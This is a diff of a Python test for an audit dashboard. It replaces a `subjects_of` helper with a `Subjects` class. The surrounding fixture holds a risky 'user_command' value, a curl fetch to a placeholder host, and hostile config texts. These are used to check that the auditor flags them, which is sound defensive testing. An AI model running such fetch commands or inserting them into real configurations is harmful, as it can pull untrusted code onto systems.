@@ -9,7 +9,7 @@ from collections.abc import Sequence
 from dashboard.audit.formats import writer
 from dashboard.audit.results import ConnectionAudit, Results
 from dashboard.audit.run import Auditor
-from dashboard.audit.subjects import subjects_of
+from dashboard.audit.subjects import Subjects
 from dashboard.audit.waivers import apply_waivers, waivers_for
 from dashboard.report import seal
 from tests.dashboard.audit.assessed import NOW
@@ -20,7 +20,7 @@ RISKY = {"user_image_url": "r.example/a", "user_command": "curl -s http://x.exam
 
 def _results() -> Results:
     loaded = inventory_of(*({"config_name": text, "config_desc": text, **RISKY} for text in HOSTILE_TEXTS))
-    audit = Auditor().audit(subjects_of(loaded, {}), NOW)
+    audit = Auditor().audit(Subjects(loaded, {}), NOW)
     first = [audit.finding(int(place)) for place in audit.positions(checks=["SUP001"])][:1]
     waivers = waivers_for(first, "prod", reason="known", owner="anna", expires=NOW.date())
     audit = apply_waivers(audit, waivers, "prod", NOW)
